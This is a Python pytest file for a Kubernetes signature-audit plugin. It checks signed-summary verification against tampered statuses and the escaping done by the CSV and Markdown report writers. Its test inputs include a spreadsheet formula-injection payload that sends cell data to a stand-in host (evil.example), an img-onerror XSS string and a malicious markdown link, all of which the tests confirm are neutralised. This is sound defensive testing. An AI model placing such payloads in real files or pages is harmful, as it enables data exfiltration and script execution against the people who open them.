"""``kubectl sigops audit`` without a cluster: the spec it creates and compares, its progress
lines, the check of the operator's signed summary (and of every way a status can lie), and
the report writers -- with finding records whose WAL content an attacker chose."""

from __future__ import annotations

import copy
import csv
import doctest
import io
import json
from pathlib import Path
from typing import Any

import pytest
from pcskit import ed_key
from test_audit_shard import AUDIT_KEY, RING, history_ring, pod_wal

from sigops.audit.partial import sign_partial
from sigops.audit.status import audit_status, digest_of
from sigops.cli import completion
from sigops.cli.plugin import auditcmd, auditreport, build_parser, main, plot
from sigops.cli.plugin.auditreport import (
    CSV_COLUMNS,
    SummaryRejected,
    audit_markdown,
    audit_spec,
    check_summary,
    code,
    csv_cell,
    findings_csv,
    hourly,
    md,
    progress_line,
    same_spec,
)
from sigops.core.audit import AuditQuery, ShardInput, audit_shard
from sigops.core.signals import pubkeys_document
from sigops.signing.records import Signer

pytestmark = pytest.mark.unit

NS, NAME, UID = "fractal-lba", "leak-drill", "0f0e0d0c-1111-2222-3333-444455556666"
OPERATOR = ed_key("sigops-op", seed_byte=11)
PUBKEYS = {OPERATOR.kid: OPERATOR.public or b""}
PUBLIC = {AUDIT_KEY.kid: AUDIT_KEY.public or b""}
QUERY = AuditQuery(key_ids=frozenset({"leaked-ed"}), accepted_invalid=True, first_n=50)
ODD = ["=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
       "\tcmd", " =1+1", 'quote " and, comma', "line\nbreak\r\nagain", "a|b`c`**d**",
       "[x](http://evil.example)", "<img src=x onerror=alert(1)>", "\uff1dSUM(1)"]


def spec() -> dict[str, Any]:
    return audit_spec("fractal-lba-backend", "2025-01-19T12:00:00Z", "2025-01-19T14:00:00Z",
                      ["leaked-ed"], accepted_invalid=True, shards=2, parallelism=2)


def audit(odd: bool = False, finished: str | None = "Complete",
          signer: Signer | None = None) -> dict[str, Any]:
    """A SignatureAudit as the operator writes it: two indexes' signed partials merged, the
    summary signed by OPERATOR. ``odd``: the first records' pcs_ids and inputs are what a
    client of the backend could have posted."""
    parts = {}
    n = 0
    for i in range(2 if finished else 1):
        result = audit_shard(history_ring(RING),
                             [ShardInput(f"pod-{i}/inbox.wal", pod_wal(10_000 * (i + 1))[0],
                                         tenant="acme")], QUERY)
        if odd:
            for f in result["findings"].values():
                for r in f["first"]:
                    r["pcs_id"], r["input"] = ODD[n % len(ODD)], ODD[(n + 3) % len(ODD)]
                    n += 1
        parts[i] = sign_partial(AUDIT_KEY, f"{NS}/{NAME}", i, f"{NS}/fractal-lba-backend",
                                result)
    job: dict[str, Any] = {"spec": {"completions": 2},
                           "status": {"completedIndexes": "0-1" if finished else "0",
                                      "active": 0 if finished else 1}}
    if finished:
        job["status"]["conditions"] = [{"type": finished, "status": "True"}]
    sp = spec()
    st = audit_status(f"{NS}/{NAME}", job, parts, PUBLIC, 50, signer or Signer(OPERATOR),
                      {"uid": UID, "namespace": NS, "spec_digest": digest_of(sp)},
                      f"{NS}/fractal-lba-backend")
    st["conditions"] = [{"type": "Ready", "status": "True", "reason": "AuditComplete",
                         "message": "done"}]
    # As stored: through JSON, nulls dropped as the API server may.
    stored = json.loads(json.dumps(st), object_hook=lambda d: {
        k: v for k, v in d.items() if v is not None})
    return {"apiVersion": "sigops.fractal-lba.io/v1alpha1", "kind": "SignatureAudit",
            "metadata": {"name": NAME, "namespace": NS, "uid": UID, "generation": 1},
            "spec": sp, "status": stored}


def test_doctests() -> None:
    assert doctest.testmod(auditreport).failed == 0


# -- the spec and progress ----------------------------------------------------------------------


def test_the_spec_it_creates_and_what_counts_as_the_same_spec() -> None:
    want = spec()
    assert want == {"target": {"deployment": "fractal-lba-backend"},
                    "lookFor": {"keyIds": ["leaked-ed"], "acceptedInvalid": True},
                    "shards": 2, "parallelism": 2, "since": "2025-01-19T12:00:00Z",
                    "until": "2025-01-19T14:00:00Z"}
    # As the API server stores it, or written by hand: defaults, another time form, order.
    stored = {"target": {"deployment": "fractal-lba-backend", "namespace": NS},
              "lookFor": {"acceptedInvalid": True, "keyIds": ["leaked-ed", "leaked-ed"]},
              "shards": 2, "parallelism": 2, "since": "2025-01-19T13:00:00+01:00",
              "until": "2025-01-19T14:00:00.000Z"}
    assert same_spec(want, stored, NS) == []
    other = {**stored, "until": "2025-01-19T15:00:00Z", "lookFor": {"all": True}}
    diff = same_spec(want, other, NS)
    assert any(d.startswith("until: 2025-01-19T15:00:00Z there, 2025-01-19T14:00:00Z asked")
               for d in diff)
    assert any(d.startswith("key ids: none there, leaked-ed asked") for d in diff)
    assert same_spec(want, {**stored, "target": {"namespace": "elsewhere"}}, NS)


def test_progress_lines_say_indexes_records_and_findings() -> None:
    obj = audit(finished=None)
    line = progress_line(obj)
    st = obj["status"]
    assert line == (f"Running: 1/2 indexes done, {st['totals']['total']:,} records, "
                    f"{st['findingsCount']:,} findings")
    obj["status"]["totals"]["total"] = 120_000
    obj["status"]["findingsCount"] = 3
    assert progress_line(obj) == "Running: 1/2 indexes done, 120,000 records, 3 findings"
    assert progress_line({"status": {}}) == "Pending: waiting for the operator"


# -- the signed summary ---------------------------------------------------------------------


def test_a_summary_that_verifies_and_matches_its_status_is_trusted() -> None:
    obj = audit()
    check = check_summary(obj, PUBKEYS)
    assert check.key_id == OPERATOR.kid and check.notes == []
    assert check.payload["total"] == obj["status"]["totals"]["total"]


def _edit(path: str, value: Any) -> Any:
    def edit(obj: dict[str, Any]) -> None:
        cur = obj
        keys = path.split(".")
        for k in keys[:-1]:
            cur = cur[int(k)] if isinstance(cur, list) else cur[k]
        cur[keys[-1]] = value
    return edit


@pytest.mark.parametrize("how,reason", [
    (lambda o: o["status"].pop("summary"), "unsigned"),
    (_edit("status.totals.total", 1), "mismatch"),
    (_edit("status.totals.by_kid.leaked-ed", 0), "mismatch"),
    (_edit("status.findings.accepted_invalid.first.0.pcs_id", "ab" * 32), "mismatch"),
    (_edit("status.findingsCount", 0), None),  # not signed, never shown as the answer
    (_edit("status.findings.searched_key.count", 1), "mismatch"),
    (_edit("status.phase", "Running"), "mismatch"),
    (_edit("status.progress.indexes.1.digest", "00" * 32), "mismatch"),
    (_edit("spec.until", "2025-01-19T13:00:00Z"), "mismatch"),
    (_edit("metadata.uid", "another-uid"), "foreign_record"),
    (_edit("metadata.name", "another"), "foreign_record"),
    (_edit("status.summary.payload.total", 1), "bad_signature"),
    (_edit("status.summary.key_id", "stranger"), "unknown_key"),
])
def test_a_status_that_is_not_what_the_operator_signed_is_never_trusted(
        how: Any, reason: str | None) -> None:
    obj = audit()
    how(obj)
    if reason is None:
        check_summary(obj, PUBKEYS)
        return
    with pytest.raises(SummaryRejected) as e:
        check_summary(obj, PUBKEYS)
    assert e.value.reason == reason, str(e.value)


def test_a_summary_signed_with_a_key_revoked_before_it_is_refused() -> None:
    obj = audit()
    signed_at = obj["status"]["summary"]["payload"]["detected_at"]
    with pytest.raises(SummaryRejected, match="revoked"):
        check_summary(obj, PUBKEYS, {OPERATOR.kid: signed_at})
    assert check_summary(obj, PUBKEYS, {OPERATOR.kid: "2999-01-01T00:00:00Z"})
    with pytest.raises(SummaryRejected, match="unknown_key"):
        check_summary(obj, {"other": ed_key("other", seed_byte=5).public or b""})


def test_an_older_summary_without_digests_is_trusted_for_its_counts_only() -> None:
    obj = audit()
    del obj["status"]["summary"]["payload"]["result_digest"]
    obj["status"]["summary"] = Signer(OPERATOR).record(
        [], "audit_summary", f"{NS}/fractal-lba-backend",
        **{k: v for k, v in obj["status"]["summary"]["payload"].items()
           if k not in ("type", "target", "service_id", "detected_at", "spec_digest")})
    notes = check_summary(obj, PUBKEYS).notes
    assert any("breakdowns and listed records are not" in n for n in notes)
    assert any("does not bind the spec" in n for n in notes)


# -- the report writers -------------------------------------------------------------------------


def test_the_csv_has_one_row_per_listed_record_and_no_cell_a_spreadsheet_runs() -> None:
    obj = audit(odd=True)
    text = findings_csv(obj)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(CSV_COLUMNS)
    findings = obj["status"]["findings"]
    assert len(rows) - 1 == sum(len(f["first"]) for f in findings.values())
    assert len(text.split("\r\n")) == len(rows) + 1  # one physical line per row
    for row in rows[1:]:
        assert len(row) == len(CSV_COLUMNS)
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
            assert "\n" not in cell and "\r" not in cell
    pcs_ids = {r[3] for r in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\")" in pcs_ids
    assert "line\\x0abreak\\x0d\\x0aagain" in pcs_ids
    assert 'quote " and, comma' in pcs_ids  # quoted by the csv module, kept as is
    received = [r[2] for r in rows[1:]]
    assert all(x.startswith("2025-01-19T12:") for x in received)
    assert csv_cell("-") == "'-" and csv_cell(None) == "" and csv_cell(12) == "12"


def test_the_markdown_reports_the_totals_of_the_status_and_escapes_wal_content() -> None:
    obj = audit(odd=True)
    check = check_summary(obj, PUBKEYS)
    text = audit_markdown(obj, check, "2026-12-01T00:00:00Z", chart="audit-x-findings.png")
    st = obj["status"]
    assert f"{st['totals']['total']:,} records: {st['totals']['valid']:,} valid" in text
    for name, f in st["findings"].items():
        assert f"### {md(name)}: {f['count']:,}" in text
    for kid, n in st["totals"]["by_kid"].items():
        assert f"| {code(kid)} | {n:,} |" in text
    for row in st["progress"]["indexes"]:
        assert f"`{row['digest']}`" in text
    assert f"`{OPERATOR.kid}`" in text and "![findings per hour](audit-x-findings.png)" in text
    assert "2025-01-19T12:00:00Z" in text  # the window asked
    # WAL content never becomes HTML, a link, a line or a column of its own.
    assert all(line.count("<img") == line.count("`<img") for line in text.splitlines())
    rows = [line for line in text.splitlines() if "| `2025-01-19T12:" in line]
    assert len(rows) == sum(len(f["first"]) for f in st["findings"].values())
    assert {len(_cells(line)) for line in rows} == {6}
    assert "``a\\|b`c`**d**``" in text
    assert "Pods not read" not in text
    obj["status"]["job"] = {**obj["status"].get("job", {}), "podsNotRead": 2}
    assert "- Pods not read: 2 (not ready at launch" in audit_markdown(obj, check, "t")


def test_rendered_the_markdown_shows_wal_content_as_text(tmp_path: Path) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    obj = audit(odd=True)
    text = audit_markdown(obj, check_summary(obj, PUBKEYS), "2026-12-01T00:00:00Z")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in html and "<a " not in html
    assert html.count("<strong>") == 1  # the phase, nothing a record wrote
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "[x](http://evil.example)" in html and "a|b`c`**d**" in html
    rows = [r for r in html.split("<tr>")[1:] if "<td><code>2025-01-19T12:" in r]
    assert rows and all(r.count("<td>") == 6 for r in rows)


def _cells(line: str) -> list[str]:
    """A GFM table row's cells: split at pipes that are not escaped."""
    out, cur, i = [], "", 0
    while i < len(line):
        if line[i] == "\\" and i + 1 < len(line):
            cur += line[i:i + 2]
            i += 2
            continue
        if line[i] == "|":
            out.append(cur)
            cur = ""
        else:
            cur += line[i]
        i += 1
    return out[1:]


def test_markdown_and_code_escaping() -> None:
    assert md("*x*") == "\\*x\\*" and md("<b>&") == "&lt;b&gt;&amp;"
    assert md("a\nb") == "a\\\\x0ab"  # the backslash itself escaped: shows as a\x0ab
    assert code("") == "-" and code("abc") == "`abc`"
    assert code("`x`") == "`` `x` ``" and code("a|b") == "`a\\|b`"


def test_findings_over_time_come_from_the_hourly_counts() -> None:
    obj = audit()
    series = hourly(obj["status"]["findings"])
    for name, f in obj["status"]["findings"].items():
        assert sum(c for _, c in series[name]) == f["count"]
    # Without hourly counts (an older status), from the listed records' times.
    old = copy.deepcopy(obj["status"]["findings"])
    for f in old.values():
        del f["by_hour"]
    fallback = hourly(old)
    assert sum(c for _, c in fallback["searched_key"]) == len(old["searched_key"]["first"])


def test_the_report_files_with_and_without_matplotlib(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    obj = audit()
    check = check_summary(obj, PUBKEYS)
    monkeypatch.setattr(plot, "available", lambda: False)
    auditcmd._write_report(obj, check, tmp_path / "a")
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == [
        f"audit-{NAME}-findings.csv", f"audit-{NAME}.md"]
    err = capsys.readouterr().err
    assert "chart skipped" in err and "matplotlib" in err
    assert "_No chart: the chart of findings over time needs matplotlib" in (
        tmp_path / "a" / f"audit-{NAME}.md").read_text()
    pytest.importorskip("matplotlib")
    monkeypatch.undo()
    auditcmd._write_report(obj, check, tmp_path / "b")
    png = tmp_path / "b" / f"audit-{NAME}-findings.png"
    data = plot.read_png_figure_data(png)
    assert data is not None
    assert data["findings"] == {n: f["count"] for n, f in obj["status"]["findings"].items()}


def test_report_and_verify_take_an_audit_saved_with_its_keys(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plot, "available", lambda: False)
    saved, keys = tmp_path / "sau.json", tmp_path / "keys.json"
    saved.write_text(json.dumps(audit()))
    keys.write_text(json.dumps(pubkeys_document([OPERATOR])))
    assert main(["verify", "-f", str(saved), "--pubkeys", str(keys)]) == 0
    assert f"sau/{NAME}: valid" in capsys.readouterr().out
    rc = main(["report", "-f", str(saved), "--pubkeys", str(keys), "-o", str(tmp_path / "r")])
    out = capsys.readouterr().out
    assert rc == 1  # findings
    assert "signed summary verifies" in out and (tmp_path / "r" / f"audit-{NAME}.md").exists()
    forged = audit()
    forged["status"]["totals"]["total"] += 1
    saved.write_text(json.dumps(forged))
    assert main(["verify", "-f", str(saved), "--pubkeys", str(keys)]) == 1
    assert main(["report", "-f", str(saved), "--pubkeys", str(keys),
                 "-o", str(tmp_path / "f")]) == 2
    assert "not trusted" in capsys.readouterr().err
    assert not (tmp_path / "f" / f"audit-{NAME}.md").exists()


def test_usage_errors_change_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    for argv, says in (
        (["audit", "--follow"], "--follow takes the NAME"),
        (["audit", "--follow", "x", "--all"], "follows an existing audit"),
        (["audit", "--since", "2025-01-19T12:00:00Z", "--until", "2025-01-19T13:00:00Z"],
         "say what to look for"),
        (["audit", "--all", "--since", "2025-01-19T12:00:00Z"], "give the window"),
        (["audit", "--all", "--since", "yesterday", "--until", "2025-01-19T13:00:00Z"],
         "not an RFC 3339 time"),
        (["audit", "--all", "--since", "2025-01-19T13:00:00Z",
          "--until", "2025-01-19T12:00:00Z"], "window is empty"),
        (["audit", "--all", "--timeout", "soon"], "--timeout"),
    ):
        assert main(["-n", NS, *argv]) == 2, argv
        assert says in capsys.readouterr().err, argv


def test_completion_knows_the_audit_verb() -> None:
    p = build_parser()

    def names(plural: str, ns: str | None) -> list[str]:
        return {"signatureaudits": ["leak-drill", "nightly"]}.get(plural, [])

    assert completion.candidates(p, ["au"]) == ["audit"]
    assert completion.candidates(p, ["audit", "--follow", "le"], names) == ["leak-drill"]
    assert completion.candidates(p, ["report", "sau/n"], names) == ["sau/nightly"]
    assert "--accepted-invalid" in completion.candidates(p, ["audit", "--acc"])


def test_the_report_shows_the_indexes_run_the_window_read_and_when_a_rerun_agrees() -> None:
    obj = audit()
    obj["status"]["job"] = {"namespace": NS, "name": "audit-leak-drill-0f0e0d0c",
                            "shards": 3, "parallelism": 2}  # a sidecar audit: one per pod
    obj["status"]["totals"]["window"] = {"since": "2026-11-30T12:10:00Z",
                                         "until": "2026-12-01T12:00:00Z"}
    text = audit_markdown(obj, check_summary(audit(), PUBKEYS), "2026-12-01T00:00:00Z")
    assert "- Shards: 3 index(es), 2 at once" in text  # not spec.shards (2)
    assert "- Window read: from 2026-11-30T12:10:00Z until 2026-12-01T12:00:00Z" in text
    assert "the volume source" in text
    del obj["status"]["job"]
    assert "- Shards: 2 index(es)" in audit_markdown(obj, check_summary(audit(), PUBKEYS),
                                                      "2026-12-01T00:00:00Z")
